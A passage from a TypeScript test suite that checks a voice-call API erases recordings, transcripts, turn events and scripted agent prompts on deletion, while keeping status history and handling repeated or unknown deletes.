    expect(existsSync(join(s.server.ctx.dataDir.root, wavPath))).toBe(false); // nor a local copy, in either mode
    for (const path of ["recording", "recording.mp3"]) {
      const gone = await s.server.api.get(`/v1/calls/${ids.done}/${path}`, opts());
      expect({ path, status: gone.status, code: gone.body.code }).toEqual({ path, status: 410, code: "gone" });
      expect(gone.headers.get("content-type")).toContain("application/problem+json");
    }
    expect((await s.server.api.get(`/v1/calls/${ids.done}/transcript`, opts())).body).toEqual({ object: "transcript", call_id: ids.done, erased: true, turns: [] });
    expect((await s.server.api.get(`/v1/calls/${ids.done}/transcript?format=text`, opts())).text).toBe("");
    const events = (await s.server.api.get(`/v1/calls/${ids.done}/events`, opts())).body.data;
    expect(events.filter((e: any) => e.type === "turn")).toEqual([]);
    expect(events.filter((e: any) => e.type === "status").map((e: any) => e.data.status)).toEqual(["queued", "ringing", "in_progress", "completed"]);
    expect(events.filter((e: any) => e.type === "erased")).toHaveLength(1);
    expect(JSON.stringify(events)).not.toContain("goodbye");

    s.server.clock.advance(1000);
    const again = await s.server.api.delete(`/v1/calls/${ids.done}`, opts());
    expect(again.status).toBe(204);
    const still = (await s.server.api.get(`/v1/calls/${ids.done}`, opts())).body;
    expect(still.erased_at).toBe(erasedAt);
    expect((await s.server.api.get(`/v1/calls/${ids.done}/events`, opts())).body.data.filter((e: any) => e.type === "erased")).toHaveLength(1);
    expect((await s.server.api.delete("/v1/calls/call_nope", opts())).status).toBe(404);
  });

  test("what the agent was told to say goes too", async () => {
    expect((await s.server.api.delete(`/v1/calls/${ids.live}`, opts())).status).toBe(204);
    const events = (await s.server.api.get(`/v1/calls/${ids.live}/events`, opts())).body.data;
    expect(JSON.stringify(events)).not.toContain("Please hold");
    expect(events.some((e: any) => e.type === "status")).toBe(true);
  });
});
